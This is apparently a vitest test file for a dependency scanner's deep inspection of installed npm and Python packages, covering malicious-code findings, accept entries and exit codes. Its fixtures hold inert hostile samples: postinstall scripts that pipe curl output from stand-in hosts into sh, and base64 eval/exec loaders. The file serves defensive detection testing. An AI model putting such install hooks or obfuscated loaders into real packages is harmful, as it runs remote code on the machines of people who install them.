import { mkdirSync, writeFileSync } from "node:fs";
import { join } from "node:path";
import { describe, expect, it } from "vitest";
import { InputError } from "../errors.js";
import type { Component } from "../inventory/model.js";
import type { AcceptEntry } from "../policy/config.js";
import { lockedComponent, memorySource } from "../test-helpers/advisories.js";
import { tmpTree } from "../test-helpers/tmp.js";
import type { PackageContents } from "./code/archive.js";
import type { InspectedPackage, InspectFinding } from "./code/inspect.js";
import type { InstalledPackage } from "./code/installed.js";
import { acceptNames, acceptWarnings, type DeepEngine, inspectInstalled } from "./deep.js";
import { failsGate, scanExitCode, scanInventory } from "./scan.js";

const NOW = new Date("2026-11-23T00:00:00Z");
const SHA = "a".repeat(64);

function installed(root: string, ecosystem: "npm" | "PyPI", name: string, version: string): InstalledPackage {
  const purl = ecosystem === "npm" ? `pkg:npm/${name}@${version}` : `pkg:pypi/${name}@${version}`;
  return { ecosystem, name, version, purl, root, files: ["index.js"], display: `node_modules/${name}` };
}

function codeFinding(extra: Partial<InspectFinding> = {}): InspectFinding {
  return {
    type: "malicious-code",
    rule: "exec-obfuscated",
    severity: "critical",
    file: "index.js",
    line: 3,
    column: 5,
    snippet: "eval(Buffer.from(p, 'base64').toString())",
    why: "eval() runs data decoded by Buffer.from(…, 'base64') at line 2",
    sha256: SHA,
    ...extra,
  };
}

interface FakeOptions {
  /** Packages found per directory (absolute). */
  found: Record<string, InstalledPackage[]>;
  /** Findings per package root + name. */
  findings?: Record<string, InspectFinding[]>;
  /** Package names whose inspection throws. */
  failing?: Record<string, Error>;
  withPool?: boolean;
}

function fakeEngine(o: FakeOptions) {
  const calls = { pools: 0, closed: 0, inspected: [] as string[], options: [] as unknown[] };
  const engine: DeepEngine = {
    findInstalledPackages(dir) {
      const list = o.found[dir];
      if (!list) throw new InputError(dir, "cannot read directory (EACCES)");
      return list;
    },
    installedPackageContents(pkg) {
      return {
        kind: "directory",
        path: pkg.root,
        files: [],
        skipped: pkg.name === "linky" ? [{ path: "bin/x", reason: "symbolic link" }] : [],
        name: pkg.name,
        version: pkg.version,
        ecosystem: pkg.ecosystem,
      } as PackageContents;
    },
    async inspectContents(contents, options) {
      calls.inspected.push(contents.name!);
      calls.options.push(options);
      const failure = o.failing?.[contents.name!];
      if (failure) throw failure;
      const findings = o.findings?.[contents.name!] ?? [];
      const accepted = (options.accepts ?? []) as AcceptEntry[];
      // the engine applies accepts: same rule and content hash
      const out = findings.map((f) => {
        const a = accepted.find((x) => x.rule === f.rule && x.sha256 === f.sha256);
        if (!a) return f;
        const acc = { reason: a.reason, approvedBy: a.approvedBy, source: a.source, line: a.line };
        return a.expires && a.expires < "2026-11-23"
          ? { ...f, expiredAcceptance: { ...acc, expires: a.expires } }
          : { ...f, accepted: acc };
      });
      return {
        path: contents.path,
        kind: contents.kind,
        files: 10,
        sourceFiles: 4,
        sourceBytes: 1000,
        findings: out,
        skipped: contents.skipped,
        errors: contents.name === "broken" ? [{ file: "lib/x.js", message: "parser failed" }] : [],
      } as InspectedPackage;
    },
    createPool() {
      if (!o.withPool) return undefined;
      calls.pools++;
      return {
        close: async () => {
          calls.closed++;
        },
      };
    },
  };
  return { engine, calls };
}

describe("inspectInstalled (scan --deep)", () => {
  it("turns each code finding into a scan finding of the installed package, located in its file", async () => {
    const root = tmpTree({ "package.json": "{}" });
    const pkgRoot = join(root, "node_modules", "evil");
    const { engine, calls } = fakeEngine({
      found: { [root]: [installed(pkgRoot, "npm", "evil", "1.0.0")] },
      findings: {
        evil: [
          codeFinding(),
          codeFinding({
            type: "install-script",
            rule: "install-script",
            severity: "high",
            file: "package.json",
            line: 6,
            column: undefined,
            snippet: '"postinstall": "curl https://x.example/a | sh"',
            why: "the postinstall script downloads and runs a shell script",
          }),
        ],
      },
      withPool: true,
    });
    const direct: Component = { ...lockedComponent("npm", "evil", "1.0.0"), scopes: ["dev"] };
    const r = await inspectInstalled([root], [direct], { engine, cwd: root, now: NOW });
    expect(r.errors).toEqual([]);
    expect(r.findings).toHaveLength(2);
    expect(r.findings[0]).toEqual({
      type: "malicious-code",
      id: "exec-obfuscated",
      aliases: [],
      purl: "pkg:npm/evil@1.0.0",
      ecosystem: "npm",
      name: "evil",
      version: "1.0.0",
      severity: "critical",
      summary: "Executes decoded or obfuscated data",
      fixedIn: null,
      references: [
        "https://attack.mitre.org/techniques/T1027/",
        "https://attack.mitre.org/techniques/T1059/",
        "https://cwe.mitre.org/data/definitions/506.html",
      ],
      direct: true,
      scopes: ["dev"],
      sources: [{ file: "node_modules/evil" }],
      rule: "exec-obfuscated",
      location: {
        packagePath: "node_modules/evil",
        file: "index.js",
        line: 3,
        column: 5,
        snippet: "eval(Buffer.from(p, 'base64').toString())",
        sha256: SHA,
      },
      why: "eval() runs data decoded by Buffer.from(…, 'base64') at line 2",
    });
    expect(r.findings[1]).toMatchObject({
      type: "install-script",
      id: "install-script",
      summary: "npm install-time script",
      references: [
        "https://attack.mitre.org/techniques/T1195/002/",
        "https://cwe.mitre.org/data/definitions/829.html",
      ],
    });
    expect(r.findings[1]!.location).not.toHaveProperty("column");
    expect(r.summary).toEqual({ packages: 1, files: 10, sourceFiles: 4, sourceBytes: 1000 });
    // one shared pool, closed at the end, handed to the engine
    expect(calls).toMatchObject({ pools: 1, closed: 1 });
    expect(calls.options[0]).toHaveProperty("pool");
  });

  it("a package not in the inventory is transitive, without scopes; without workers it analyses in-thread", async () => {
    const root = tmpTree({ "x.txt": "" });
    const { engine, calls } = fakeEngine({
      found: { [root]: [installed(join(root, "node_modules/a"), "npm", "a", "1.0.0")] },
      findings: { a: [codeFinding()] },
    });
    const r = await inspectInstalled([root], [lockedComponent("npm", "a", "2.0.0")], { engine, cwd: root });
    expect(r.findings[0]).toMatchObject({ direct: false, scopes: [] });
    expect(calls.pools).toBe(0);
    expect(calls.options[0]).toMatchObject({ workers: 0 });
  });

  it("inspects a package once however many scanned directories hold it; reports progress", async () => {
    const root = tmpTree({ "sub/x.txt": "" });
    const a = installed(join(root, "node_modules/a"), "npm", "a", "1.0.0");
    const b = installed(join(root, "sub/node_modules/b"), "npm", "b", "1.0.0");
    const { engine, calls } = fakeEngine({ found: { [root]: [a, b], [join(root, "sub")]: [b] } });
    const progress: string[] = [];
    const r = await inspectInstalled([root, join(root, "sub")], [], {
      engine,
      cwd: root,
      onProgress: (done, total) => progress.push(`${done}/${total}`),
    });
    expect(calls.inspected.sort()).toEqual(["a", "b"]);
    expect(r.summary.packages).toBe(2);
    expect(progress).toEqual(["1/2", "2/2"]);
  });

  it("a file target is said to inspect nothing; an unreadable directory is an error", async () => {
    const root = tmpTree({ "package-lock.json": "{}", "locked/x": "" });
    const { engine } = fakeEngine({ found: {} });
    const r = await inspectInstalled([join(root, "package-lock.json"), join(root, "locked")], [], {
      engine,
      cwd: root,
    });
    expect(r.warnings).toEqual([
      {
        file: "package-lock.json",
        message:
          "--deep inspects the installed packages under a directory; this is a file, nothing was inspected",
      },
    ]);
    expect(r.errors).toEqual([{ file: join(root, "locked"), message: "cannot read directory (EACCES)" }]);
  });

  it("says so when nothing was inspected: no installed packages, or no directory at all", async () => {
    const root = tmpTree({ "package-lock.json": "{}" });
    const { engine } = fakeEngine({ found: { [root]: [] } });
    const empty = await inspectInstalled([root], [], { engine, cwd: root });
    expect(empty.warnings).toEqual([
      {
        file: ".",
        message:
          "--deep found no installed packages here (node_modules, site-packages): nothing was inspected",
      },
    ]);
    const none = await inspectInstalled([], [], { engine, cwd: root });
    expect(none.warnings.map((w) => w.message)).toEqual([
      "--deep inspects the installed packages under the scanned directories, and no directory was given",
    ]);
  });

  it("passes the discovery's warnings on, named by the directory searched", async () => {
    const root = tmpTree({ "x.txt": "" });
    const { engine } = fakeEngine({ found: {} });
    engine.findInstalledPackages = (_dir, options) => {
      options?.onWarning?.("node_modules/odd: no package.json; skipped");
      return [installed(join(root, "node_modules/a"), "npm", "a", "1.0.0")];
    };
    const r = await inspectInstalled([root], [], { engine, cwd: root });
    expect(r.warnings).toEqual([{ file: ".", message: "node_modules/odd: no package.json; skipped" }]);
  });

  it("a package that cannot be inspected is an error and the others are still inspected; the pool is closed", async () => {
    const root = tmpTree({ "x.txt": "" });
    const internal: string[] = [];
    const { engine, calls } = fakeEngine({
      found: {
        [root]: [
          installed(join(root, "node_modules/bad"), "npm", "bad", "1.0.0"),
          installed(join(root, "node_modules/bug"), "npm", "bug", "1.0.0"),
          installed(join(root, "node_modules/good"), "npm", "good", "1.0.0"),
        ],
      },
      findings: { good: [codeFinding()] },
      failing: {
        bad: new InputError("node_modules/bad/package.json", "invalid JSON", { line: 1, column: 2 }),
        bug: new TypeError("x is undefined"),
      },
      withPool: true,
    });
    const r = await inspectInstalled([root], [], {
      engine,
      cwd: root,
      onInternalError: (p) => internal.push(p),
    });
    expect(r.findings.map((f) => f.name)).toEqual(["good"]);
    expect(r.errors).toEqual([
      { file: "node_modules/bad/package.json", line: 1, column: 2, message: "1:2: invalid JSON" },
      { file: "node_modules/bug", message: "cannot inspect: x is undefined" },
    ]);
    expect(internal).toEqual([join(root, "node_modules/bug")]);
    expect(calls.closed).toBe(1);
  });

  it("closes the pool when discovery itself fails midway", async () => {
    const root = tmpTree({ "x.txt": "" });
    const { engine, calls } = fakeEngine({
      found: { [root]: [installed(join(root, "node_modules/a"), "npm", "a", "1.0.0")] },
      withPool: true,
    });
    engine.installedPackageContents = () => {
      throw new Error("boom");
    };
    const r = await inspectInstalled([root], [], { engine, cwd: root });
    expect(r.errors).toHaveLength(1);
    expect(calls).toMatchObject({ pools: 1, closed: 1 });
  });

  it("warns about files not analysed and entries not read, briefly", async () => {
    const root = tmpTree({ "x.txt": "" });
    const { engine } = fakeEngine({
      found: {
        [root]: [
          installed(join(root, "node_modules/broken"), "npm", "broken", "1.0.0"),
          installed(join(root, "node_modules/linky"), "npm", "linky", "2.0.0"),
        ],
      },
    });
    const r = await inspectInstalled([root], [], { engine, cwd: root });
    expect(r.warnings).toEqual([
      { file: "node_modules/broken/lib/x.js", message: "not analysed (broken): parser failed" },
      { file: "node_modules/linky", message: "linky 2.0.0: 1 entry not read: bin/x (symbolic link)" },
    ]);
  });
});

describe("accept entries", () => {
  const accept = (extra: Partial<AcceptEntry> = {}): AcceptEntry => ({
    package: "evil",
    rule: "exec-obfuscated",
    sha256: SHA,
    reason: "decodes a bundled font, reviewed",
    approvedBy: "sec-team",
    source: ".depwarden.yaml",
    line: 5,
    ...extra,
  });

  it("names a package by name, name@version or purl, as the ecosystem compares names", () => {
    const pkg = { ecosystem: "PyPI", name: "python-dateutil", version: "2.9.0" };
    expect(acceptNames("Python_Dateutil", pkg)).toBe(true);
    expect(acceptNames("python-dateutil@2.9.0", pkg)).toBe(true);
    expect(acceptNames("python-dateutil@2.8.0", pkg)).toBe(false);
    expect(acceptNames("pkg:pypi/python-dateutil@2.9.0", pkg)).toBe(true);
    expect(acceptNames("pkg:npm/python-dateutil", pkg)).toBe(false);
    expect(acceptNames("pkg:bogus", pkg)).toBe(false);
    expect(acceptNames("@babel/core", { ecosystem: "npm", name: "@babel/core", version: "7.0.0" })).toBe(
      true,
    );
    expect(
      acceptNames("@babel/core@7.0.0", { ecosystem: "npm", name: "@babel/core", version: "7.0.0" }),
    ).toBe(true);
  });

  it("warns about expired entries and about entries whose file changed; says nothing of packages not installed", () => {
    const pkg = installed("/x/node_modules/evil", "npm", "evil", "1.0.0");
    const result = { findings: [codeFinding()] } as unknown as InspectedPackage;
    const changed = { findings: [codeFinding({ sha256: "b".repeat(64) })] } as unknown as InspectedPackage;
    expect(acceptWarnings([accept()], [{ pkg, result }], NOW)).toEqual([]);
    expect(acceptWarnings([accept({ expires: "2026-01-31" })], [{ pkg, result }], NOW)).toEqual([
      {
        file: ".depwarden.yaml",
        line: 5,
        message:
          "5: accept of exec-obfuscated for evil expired on 2026-01-31: it no longer accepts (its finding counts again)",
      },
    ]);
    expect(acceptWarnings([accept()], [{ pkg, result: changed }], NOW)).toEqual([
      {
        file: ".depwarden.yaml",
        line: 5,
        message:
          "5: accept of exec-obfuscated for evil matches no finding: the file changed since it was reviewed, or the rule no longer fires there; review it again",
      },
    ]);
    expect(acceptWarnings([accept({ file: "other.js" })], [{ pkg, result }], NOW)[0]?.message).toMatch(
      /\(other\.js\) matches no finding/,
    );
    expect(acceptWarnings([accept({ package: "not-installed" })], [{ pkg, result }], NOW)).toEqual([]);
  });

  it("through scanInventory: accepted findings are shown but do not gate; an expired acceptance gates again", async () => {
    const root = tmpTree({ "x.txt": "" });
    mkdirSync(join(root, "node_modules"), { recursive: true });
    writeFileSync(join(root, "node_modules", ".keep"), "");
    const { engine } = fakeEngine({
      found: { [root]: [installed(join(root, "node_modules/evil"), "npm", "evil", "1.0.0")] },
      findings: { evil: [codeFinding()] },
    });
    const scan = (accepts: AcceptEntry[]) =>
      scanInventory(
        { target: [root], components: [], files: [], errors: [], warnings: [] },
        memorySource([], { npm: NOW.toISOString() }),
        {
          failOn: "high",
          ignores: [],
          now: NOW,
          typosquat: false,
          deep: { paths: [root], engine, accepts, cwd: root },
        },
      );
    const open = await scan([]);
    expect(open.summary).toMatchObject({ maliciousCode: 1, findings: 1, accepted: 0 });
    expect(open.deep).toEqual({ packages: 1, files: 10, sourceFiles: 4, sourceBytes: 1000 });
    expect(scanExitCode(open)).toBe(1);

    const ok = await scan([accept()]);
    expect(ok.findings[0]!.accepted).toMatchObject({ reason: "decodes a bundled font, reviewed" });
    expect(ok.summary).toMatchObject({ maliciousCode: 0, findings: 0, accepted: 1 });
    expect(failsGate(ok.findings[0]!, "low")).toBe(false);
    expect(scanExitCode(ok)).toBe(0);

    const expired = await scan([accept({ expires: "2026-01-31" })]);
    expect(expired.findings[0]!.expiredAcceptance).toBeDefined();
    expect(scanExitCode(expired)).toBe(1);
    expect(expired.inventory.warnings.map((w) => w.message)).toContainEqual(
      expect.stringMatching(/accept of exec-obfuscated for evil expired on 2026-01-31/),
    );
  });

  it("through scanInventory: an unreadable directory makes the scan incomplete (exit 2)", async () => {
    const root = tmpTree({ "x.txt": "" });
    const { engine } = fakeEngine({ found: {} });
    const r = await scanInventory(
      { target: [root], components: [], files: [], errors: [], warnings: [] },
      memorySource([], { npm: NOW.toISOString() }),
      { failOn: "high", ignores: [], now: NOW, typosquat: false, deep: { paths: [root], engine, cwd: root } },
    );
    expect(r.inventory.errors).toHaveLength(1);
    expect(scanExitCode(r)).toBe(2);
  });

  it("through scanInventory: an ignore entry with the rule id suppresses the package's findings of that rule", async () => {
    const root = tmpTree({ "x.txt": "" });
    const { engine } = fakeEngine({
      found: { [root]: [installed(join(root, "node_modules/evil"), "npm", "evil", "1.0.0")] },
      findings: { evil: [codeFinding()] },
    });
    const r = await scanInventory(
      { target: [root], components: [], files: [], errors: [], warnings: [] },
      memorySource([], { npm: NOW.toISOString() }),
      {
        failOn: "high",
        ignores: [
          {
            id: "exec-obfuscated",
            package: "evil",
            reason: "vendor fix pending",
            expires: "2099-01-01",
            approvedBy: "sec",
            file: ".depwarden.yaml",
          },
        ],
        now: NOW,
        typosquat: false,
        deep: { paths: [root], engine, cwd: root },
      },
    );
    expect(r.findings[0]!.suppressed).toMatchObject({ id: "exec-obfuscated" });
    expect(scanExitCode(r)).toBe(0);
  });
});

/** The first bytes of a 64-bit little-endian ELF file, padded: enough to be recognised, nothing to run. */
const ELF = Buffer.concat([Buffer.from([0x7f, 0x45, 0x4c, 0x46, 2, 1, 1, 0]), Buffer.alloc(120)]);

describe("inspectInstalled with the real engine (in this thread)", () => {
  it("finds the code findings of installed npm and Python packages, and nothing in plain ones", async () => {
    // Inert samples: data written to disk, never imported or run.
    const payload = Buffer.from("import os; os.system('id')").toString("base64");
    const root = tmpTree({
      "node_modules/evil-logger/package.json": JSON.stringify({
        name: "evil-logger",
        version: "1.0.2",
        scripts: { postinstall: "curl -s https://paste.example.com/raw/x | sh" },
      }),
      "node_modules/evil-logger/index.js":
        'const p = "aGVsbG8=";\neval(Buffer.from(p, "base64").toString());\n',
      "node_modules/plain/package.json": JSON.stringify({ name: "plain", version: "1.0.0" }),
      "node_modules/plain/index.js": "module.exports = (a, b) => a + b;\n",
      // an ELF executable shipped in an npm package: reported; an extension module of a Python distribution: not
      "node_modules/evil-logger/bin/helper": ELF,
      ".venv/lib/python3.12/site-packages/colourama/_speedups.so": ELF,
      ".venv/pyvenv.cfg": "home = /usr/bin\n",
      ".venv/lib/python3.12/site-packages/colourama/__init__.py": `import base64\nexec(base64.b64decode("${payload}"))\n`,
      ".venv/lib/python3.12/site-packages/colourama-0.1.6.dist-info/METADATA":
        "Metadata-Version: 2.1\nName: colourama\nVersion: 0.1.6\n",
      ".venv/lib/python3.12/site-packages/colourama-0.1.6.dist-info/RECORD":
        "colourama/__init__.py,,\ncolourama/_speedups.so,,\ncolourama-0.1.6.dist-info/METADATA,,\ncolourama-0.1.6.dist-info/RECORD,,\n",
    });
    const r = await inspectInstalled([root], [lockedComponent("PyPI", "colourama", "0.1.6")], {
      cwd: root,
      now: NOW,
    });
    expect(r.errors).toEqual([]);
    expect(r.summary.packages).toBe(3);
    const got = r.findings.map(
      (f) => `${f.name} ${f.rule} ${f.location!.packagePath}/${f.location!.file}:${f.location!.line}`,
    );
    expect(got).toContain("evil-logger exec-obfuscated node_modules/evil-logger/index.js:2");
    expect(got).toContain(
      "colourama exec-obfuscated .venv/lib/python3.12/site-packages/colourama/__init__.py:2",
    );
    expect(r.findings.some((f) => f.name === "evil-logger" && f.type === "install-script")).toBe(true);
    expect(r.findings.some((f) => f.name === "plain")).toBe(false);
    expect(got).toContain("evil-logger native-binary node_modules/evil-logger/bin/helper:1");
    expect(got.filter((g) => g.includes("native-binary"))).toHaveLength(1);
    const py = r.findings.find((f) => f.name === "colourama")!;
    expect(py).toMatchObject({ purl: "pkg:pypi/colourama@0.1.6", direct: true, severity: "critical" });
    expect(py.location!.sha256).toMatch(/^[0-9a-f]{64}$/);
  });
});
